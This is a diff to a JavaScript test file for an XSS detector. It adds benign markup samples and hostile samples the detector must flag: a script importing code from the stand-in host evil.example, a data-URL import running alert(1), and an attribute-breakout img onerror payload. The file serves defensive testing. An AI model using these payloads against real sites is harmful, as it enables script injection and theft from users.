@@ -53,6 +53,7 @@ test.each([
   '<td><span>-</span></td>',
   '<details><summary>How it went</summary>',
   '--> <plugin><groupId>org.example</groupId></plugin>',
+  '    id="stop77" />\n      <stop offset="1" id="stop79" />',
 ])('the first lines of a read-me only show something, in an address too: %s', (markup) => {
   expect(foundIn(xss, markup)).toEqual([]);
 });
@@ -80,6 +81,8 @@ test.each([
   '<script type="module">\n  import * as acme from \'acme\';\n  // nothing else\n</script>',
   "program\n  .command('run')\n  .argument('<script>')\n  .action(function () { console.error(this.args[0]); });",
   '/** Kind of <script> tags */',
+  "vi.mock( import( '@acme/api-fetch' ) );",
+  "/** @type {import('./eval')} */",
 ])('modules of trusted hosts and names of the element run nothing: %s', (markup) => {
   expect(foundIn(xss, jsonBody({ x: markup }))).toEqual([]);
 });
@@ -90,6 +93,9 @@ test.each([
   '<script type="module">import a from \'https://unpkg.com/acme\'; a(document.cookie)</script>',
   "'<script>')//",
   '<script> tags=alert(1)</script>',
+  "<script>import('//evil.example/a.js')</script>",
+  "import('data:text/javascript,alert(1)')",
+  'x" y="z"><img src=x onerror=alert(1)>',
 ])('what else a script does is found: %s', (markup) => {
   expect(foundIn(xss, jsonBody({ x: markup }))).not.toEqual([]);
 });
